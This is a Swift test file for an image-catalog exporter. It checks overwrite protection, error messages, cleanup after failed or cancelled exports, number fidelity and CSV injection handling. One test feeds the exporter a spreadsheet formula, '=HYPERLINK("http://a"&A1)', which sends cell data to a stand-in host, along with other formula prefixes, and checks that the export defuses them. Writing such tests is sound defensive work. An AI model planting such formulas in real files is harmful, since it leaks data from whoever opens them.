import Foundation
import TesseraTestSupport
import Testing

@testable import tessera

/// Where exports are written, what they report, and when they write nothing.
@Suite struct CatalogExportTests {
  private let small: SmallOutput

  init() throws { small = try SmallOutput() }

  private static let slots = #""slots":{"card":{"width":8,"mode":"fit"}},"scales":[1]"#

  private func publish(head: String) async throws {
    try await publish(nil, SmallOutput.head(head))
  }

  private func publish(
    _ lines: [String]? = nil, _ head: String = SmallOutput.head(slots)
  ) async throws {
    let own = SmallOutput.line("a", [try small.make("a")])
    try await small.publish(lines ?? [own], head: head)
  }

  private func export(
    _ form: CatalogExport.Form = .html, to path: String, slots: [String] = [],
    _ change: (inout ExportOptions) -> Void = { _ in }
  ) async throws -> ExportReport {
    var options = ExportOptions()
    options.slots = slots
    change(&options)
    return try await CatalogExport(small.root, as: form, options, worker: "none").write(to: path)
  }

  @Test(
    arguments: [
      (.html, "page.html", ["page.html", "page.css"]), (.html, "page", ["page", "page.css"]),
      (.html, "a.b.html", ["a.b.html", "a.b.css"]), (.html, ".page", [".page", ".page.css"]),
      (.xcassets, "A.xcassets", ["A.xcassets", "A.names.json"]),
      (.android, "res", ["res", "res.names.json"]),
      (.csv, "rows.csv", ["rows.csv"]), (.jsonl, "rows", ["rows"]),
    ] as [(CatalogExport.Form, String, [String])])
  func nothingIsReplaced(
    _ form: CatalogExport.Form, _ target: String, _ targets: [String]
  ) async throws {
    try await publish()
    for name in targets {
      try small.folder.write("mine", to: name)
      #expect(
        await sentence { try await export(form, to: small.folder.path(target)) }
          == "\"\(small.folder.path(name))\" exists already; name another target, or replace it with --force"
      )
      #expect(try small.folder.text(name) == "mine")
      try FileManager.default.removeItem(atPath: small.folder.path(name))
    }
    #expect(small.folder.files(below: "").allSatisfy { $0.hasPrefix("out/") })
  }

  /// A nonce makes the style sheet a part of a page, and not of fragments.
  @Test func aPageWithANonceHasNoCompanion() async throws {
    try await publish()
    try small.folder.write("mine", to: "page.css")
    let report = try await export(to: small.folder.path("page.html")) { $0.nonce = "n" }
    #expect(report.companions == [])
    let text = await sentence {
      try await export(to: small.folder.path("page.json")) {
        ($0.nonce, $0.asFragments) = ("n", true)
      }
    }
    #expect(text.hasPrefix("\"\(small.folder.path("page.css"))\" exists already"))
  }

  @Test func aSlotHasToBeInTheCatalog() async throws {
    try await publish()
    #expect(
      await sentence { try await export(to: small.folder.path("x"), slots: ["card", "cards"]) }
        == "the catalog has no slot \"cards\"; did you mean \"card\"?")
    #expect(small.folder.files(below: "").allSatisfy { $0.hasPrefix("out/") })
  }

  @Test func theCatalogHasToBeThere() async throws {
    #expect(
      await sentence { try await export(to: small.folder.path("x")) }
        == "\"\(small.root)\" holds no catalog yet: no run has come to its end; run again, which goes on where the last one was stopped"
    )
  }

  /// Slashes at the end of a target are not part of its name.
  @Test func slashesBehindATargetAreIgnored() async throws {
    try await publish()
    // A folder that is missing is made.
    let path = small.folder.path("new/folder/rows")
    _ = try await export(.csv, to: path + "//")
    #expect(try small.folder.text("new/folder/rows").contains("a,"))
    #expect(
      await sentence { try await export(.csv, to: path + "/") }
        == "\"\(path)\" exists already; name another target, or replace it with --force")
    #expect(
      await sentence { try await export(.csv, to: "/") }
        == "\"/\" exists already; name another target, or replace it with --force")
  }

  @Test(
    arguments: [
      (#""baseURL":"https://cdn/","#, .html, "../page.html", false, false),
      ("", .html, "../page.html", true, false), ("", .html, "page.html", true, true),
      ("", .jsonl, "rows", true, true), ("", .csv, "../rows.csv", true, false),
      (#""baseURL":"https://cdn/","#, .csv, "rows.csv", false, true),
    ] as [(String, CatalogExport.Form, String, Bool, Bool)])
  func theReportSaysWhereURLsLead(
    _ base: String, _ form: CatalogExport.Form, _ target: String, _ isRelative: Bool,
    _ isBeside: Bool
  ) async throws {
    try await publish(nil, SmallOutput.head(base + Self.slots))
    let report = try await export(form, to: "\(small.root)/\(target)")
    #expect((report.isRelative, report.isBeside) == (isRelative, isBeside))
    #expect((report.images, report.empty, report.withoutAlt) == (1, 0, 1))
    #expect(!ExportReport().isRelative && !ExportReport().isBeside)
    #expect(report.companions == (form == .html ? ["page.css"] : []))
  }

  /// URLs of an image service are absolute.
  @Test(arguments: [false, true])
  func onlyFilesAreRelative(_ hasFile: Bool) async throws {
    let service =
      #"{"id":"s","url":"u","status":"ok","width":8,"height":8,"alt":"","variants":"#
      + #"[\#(SmallOutput.variant(url: "https://img/a", type: "image/webp"))],"slots":{}}"#
    let own = SmallOutput.line("a", [try small.make("a")])
    let other = service.replacing("\"s\"", with: "\"t\"")
    try await publish(hasFile ? [own, service, other] : [service, other])
    let report = try await export(.jsonl, to: small.folder.path("rows.jsonl"))
    #expect(report.isRelative == hasFile)
    #expect(report.images == (hasFile ? 3 : 2) && report.withoutAlt == (hasFile ? 1 : 0))
  }

  /// A title is never empty: it is the folder's name then.
  @Test(arguments: [("", "out"), (" \t", "out"), (" a<", " a&lt;")])
  func aPageHasATitle(_ name: String, _ title: String) async throws {
    let name = name.replacing("\t", with: "\\t")
    try await publish(
      nil, SmallOutput.head(Self.slots).replacing("\"feed\"", with: "\"\(name)\""))
    _ = try await export(to: small.folder.path("page.html"))
    #expect(
      try small.folder.text("page.html").contains("<title>\(title)</title>\n"))
  }

  @Test func nothingIsLeftOfAnExportThatFailed() async throws {
    try await publish([SmallOutput.line("a", [try small.make("a")]), #"{"id":"b"}"#])
    let text = await sentence { try await export(to: small.folder.path("page.html")) }
    #expect(text.contains("\"\(small.root)/catalog.json\", ") && text != "no error", "\(text)")
    #expect(small.folder.files(below: "").allSatisfy { $0.hasPrefix("out/") })
  }

  /// The file for high dynamic range alone is not a variant: most screens could not show it.
  @Test(arguments: [(CatalogExport.Form.html, "page.html"), (.csv, "rows.csv")])
  func aVariantHasAnOrdinaryFile(_ form: CatalogExport.Form, _ name: String) async throws {
    var file = try small.make("a")
    file.type = "image/webp"
    try await publish(
      [SmallOutput.line("a", [file], isCard: true)],
      SmallOutput.head(Self.slots).replacing(
        #""extension":"webp","#, with: #""extension":"webp","dynamicRange":"high","#))
    let text = await sentence { try await export(form, to: small.folder.path(name)) }
    #expect(text.contains("a variant has at least one file or URL"), "\(text)")
  }

  @Test func nothingIsLeftOfAnExportThatWasCancelled() async throws {
    try await publish([])
    let task = Task {
      withUnsafeCurrentTask { $0?.cancel() }
      _ = try await export(to: small.folder.path("page.html"))
    }
    await #expect(throws: CancellationError.self) { try await task.value }
    #expect(small.folder.files(below: "").allSatisfy { $0.hasPrefix("out/") })
  }

  /// A file of a large output is read in full.
  @Test func filesAreReadInFull() async throws {
    let bytes = (0..<3_000_000).map { UInt8($0 % 251) }
    let file = try small.make(bytes)
    let files = try ExportedFiles(small.root)
    #expect(try await files.bytes(of: file.path) == bytes)
    #expect(files.name(of: file.path) == "\(small.root)/\(file.path)")
    #expect(files.location == small.root)
    #expect(
      await sentence { try await files.bytes(of: "variants/none") }
        == "\"\(small.root)/variants/none\" is missing; tessera verify finds what else is")
  }

  /// What a double does not hold stays as it is written.
  @Test(.faults(.m29)) func numbersAreExportedAsTheyAreWritten() async throws {
    let extra =
      #"{"hash":18446744073709551615,"b":[1.0,0.12345678901234567890,-1e400],"a":9223372036854775807}"#
    try await publish([
      SmallOutput.line("a", [try small.make("a")], more: #","extra": "# + extra),
      SmallOutput.line("b", [try small.make("a")]),
    ])
    _ = try await export(.csv, to: small.folder.path("rows.csv"))
    let rows = try small.folder.text("rows.csv").split(separator: "\r\n")
    #expect(rows[1].hasSuffix(",\"\(extra.replacing("\"", with: "\"\""))\""))
    _ = try await export(.jsonl, to: small.folder.path("rows.jsonl"))
    let lines = try small.folder.text("rows.jsonl").split(separator: "\n")
    #expect(lines[0].hasSuffix(#","extra":\#(extra)}"#) && !lines[1].contains("extra"))
    _ = try await export(.sqlite, to: small.folder.path("rows.db"))
    let database = try Data(contentsOf: small.folder.url.appending(path: "rows.db"))
    #expect(database.range(of: Data(extra.utf8)) != nil)
  }

  /// A description that people upload is not a formula of a spreadsheet (OWASP, CSV Injection).
  @Test(
    .faults(.m28),
    arguments: [
      (#"=HYPERLINK(\"http://a\"&A1)"#, #""'=HYPERLINK(""http://a""&A1)""#), ("+1", "'+1"),
      ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), (#"\t=1"#, "'\t=1"), (#"\r=1"#, "\"'\r=1\""),
      ("a=1", "a=1"), ("'=1", "'=1"), (" =1", " =1"), ("", ""),
    ])
  func cellsOfATableAreNoFormulas(_ alt: String, _ cell: String) async throws {
    try await publish([
      SmallOutput.line("=a", [try small.make("a")], more: #","alt":"\#(alt)""#)
    ])
    _ = try await export(.csv, to: small.folder.path("rows.csv"))
    let row = try small.folder.text("rows.csv").split(separator: "\r\n")[1]
    #expect(row.hasPrefix("'=a,ok,,,,\(cell),,https://example.com/=a,"), "\(row)")
    // Programs get it as it is.
    _ = try await export(.jsonl, to: small.folder.path("rows.jsonl"))
    #expect(
      try small.folder.text("rows.jsonl").contains(
        alt.isEmpty
          ? #""id":"=a""#
          : #""alt":"\#(alt.replacing(#"\t"#, with: #"\u0009"#).replacing(#"\r"#, with: #"\u000d"#))""#
      ))
  }
}
